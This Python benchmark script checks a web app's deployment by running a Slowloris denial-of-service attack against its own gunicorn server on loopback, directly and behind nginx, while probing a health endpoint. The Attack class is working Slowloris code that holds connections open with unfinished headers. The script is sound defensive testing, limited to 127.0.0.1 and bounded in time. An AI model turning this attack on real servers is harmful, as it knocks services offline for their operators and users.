"""Slowloris against gunicorn, directly and through deploy/nginx.conf (README, "Production").

50 sockets each send the start of a request and then one more header line every few seconds,
never finishing it (reopened when the server drops them). Meanwhile a normal request is made every
two seconds with a 5-second limit. gunicorn's sync workers serve one connection each, so directly
they are all held by the attack; through nginx, which reads whole requests under a 10-second
header timeout before passing them on, the site keeps answering.

Loopback only (gunicorn and nginx on 127.0.0.1, each stopped by its own pid file); every loop is
bounded in time (--seconds per attack, 30 by default). Needs nginx (apt-get install nginx) and openssl.

    .venv/bin/python bench/slowloris.py [--seconds 30] [--sockets 50]
"""

import argparse
import socket
import ssl
import statistics
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from harness import Gunicorn, app_env, machine, migrate  # noqa: E402

from deploy.nginx_local import SERVER_NAME, NginxOnLoopback, nginx_binary  # noqa: E402

PROBE_TIMEOUT = 5.0
PROBE_EVERY = 2.0
DRIP_EVERY = 5.0  # seconds between two header lines of one slow socket


def tls_context():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # the bench's own self-signed certificate, on loopback
    return context


class Target:
    def __init__(self, name, port, tls):
        self.name, self.port, self.tls = name, port, tls
        self.context = tls_context() if tls else None

    def connect(self, timeout):
        sock = socket.create_connection(("127.0.0.1", self.port), timeout=timeout)
        if self.tls:
            sock = self.context.wrap_socket(sock, server_hostname=SERVER_NAME)
        return sock


def probe(target):
    """One normal request: (answered within PROBE_TIMEOUT, seconds taken, status line)."""
    started = time.monotonic()
    try:
        with target.connect(PROBE_TIMEOUT) as sock:
            sock.settimeout(max(0.1, PROBE_TIMEOUT - (time.monotonic() - started)))
            sock.sendall(f"GET /healthz HTTP/1.1\r\nHost: {SERVER_NAME}\r\nConnection: close\r\n\r\n".encode())
            first = sock.recv(64)
        status = first.split(b"\r\n", 1)[0].decode(errors="replace")
        return status.startswith("HTTP/"), time.monotonic() - started, status
    except OSError as exc:  # includes timeouts and TLS errors
        return False, time.monotonic() - started, type(exc).__name__


class Attack(threading.Thread):
    """Keeps `count` slow, never-finished requests open against the target until stopped."""

    def __init__(self, target, count):
        super().__init__(daemon=True)
        self.target, self.count = target, count
        self.stop_event = threading.Event()
        self.opened = self.dropped = 0
        self.sockets = []

    def open_one(self):
        try:
            sock = self.target.connect(3.0)
            sock.sendall(f"GET /?{self.opened} HTTP/1.1\r\nHost: {SERVER_NAME}\r\nUser-Agent: slow\r\n".encode())
            self.opened += 1
            return [sock, time.monotonic()]
        except OSError:
            return None

    def run(self):
        while not self.stop_event.is_set():
            while len(self.sockets) < self.count and not self.stop_event.is_set():
                entry = self.open_one()
                if entry is None:
                    break
                self.sockets.append(entry)
            now = time.monotonic()
            for entry in list(self.sockets):
                if now - entry[1] >= DRIP_EVERY:
                    try:
                        entry[0].sendall(b"X-Slow: 1\r\n")
                        entry[1] = now
                    except OSError:
                        self.dropped += 1
                        entry[0].close()
                        self.sockets.remove(entry)
            self.stop_event.wait(0.2)
        for sock, _ in self.sockets:
            sock.close()

    def stop(self):
        self.stop_event.set()
        self.join(30)


def warm_up(target, limit=60.0):
    """Seconds until the site answers again (workers load the app after the socket is open, and
    come back after an attack)."""
    started = time.monotonic()
    while time.monotonic() < started + limit:
        if probe(target)[0]:
            return time.monotonic() - started
        time.sleep(0.5)
    raise SystemExit(f"{target.name}: no answer within {limit:.0f} s")


def under_attack(target, sockets, seconds):
    baseline = probe(target)
    attack = Attack(target, sockets)
    attack.start()
    time.sleep(2.0)  # let the sockets take their places
    results, deadline = [], time.monotonic() + seconds - 2.0
    while time.monotonic() < deadline:
        started = time.monotonic()
        results.append(probe(target))
        time.sleep(max(0.0, PROBE_EVERY - (time.monotonic() - started)))
    attack.stop()
    answered = [r for r in results if r[0]]
    line = (
        f"  {target.name}: before the attack {baseline[1] * 1000:.0f} ms ({baseline[2]}); "
        f"during it {len(answered)} of {len(results)} requests answered within {PROBE_TIMEOUT:.0f} s"
    )
    if answered:
        times = [r[1] * 1000 for r in answered]
        line += f" (median {statistics.median(times):.0f} ms, max {max(times):.0f} ms)"
    line += f"; slow sockets opened {attack.opened}, dropped by the server {attack.dropped}"
    print(line, flush=True)
    return len(answered), len(results)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=int, default=30, help="length of each attack (at most 120)")
    parser.add_argument("--sockets", type=int, default=50, help="slow sockets (at most 200)")
    args = parser.parse_args()
    seconds, sockets = min(max(args.seconds, 5), 120), min(max(args.sockets, 1), 200)
    if nginx_binary() is None:
        raise SystemExit("nginx is not installed (apt-get install nginx)")
    print(f"machine: {machine()}")
    with tempfile.TemporaryDirectory(prefix="weiyi-slowloris-") as tmp:
        workdir = Path(tmp)
        env = app_env(
            workdir,
            TRUSTED_PROXIES="1",
            PUBLIC_BASE_URL=f"https://{SERVER_NAME}",
            TRUSTED_HOSTS=f"{SERVER_NAME},127.0.0.1,localhost",
        )
        migrate(env)
        with Gunicorn("wsgi:app", env, workdir, workers=2) as gunicorn:
            (workdir / "nginx").mkdir()
            with NginxOnLoopback(workdir / "nginx", gunicorn.port) as nginx:
                print(f"gunicorn 2 sync workers on 127.0.0.1; {sockets} slow sockets for {seconds} s against each:")
                warm_up(Target("gunicorn", gunicorn.port, tls=False))
                direct = under_attack(Target("gunicorn directly", gunicorn.port, tls=False), sockets, seconds)
                recovery = warm_up(Target("gunicorn", gunicorn.port, tls=False))
                print(f"  gunicorn answered again {recovery:.1f} s after the direct attack ended", flush=True)
                proxied = under_attack(Target("through nginx (HTTPS)", nginx.https_port, tls=True), sockets, seconds)
    verdict = "OK" if proxied[0] == proxied[1] else "FAILED"
    print(f"{verdict}: through nginx {proxied[0]}/{proxied[1]} answered; gunicorn directly {direct[0]}/{direct[1]}")
    return 0 if verdict == "OK" else 1


if __name__ == "__main__":
    sys.exit(main())
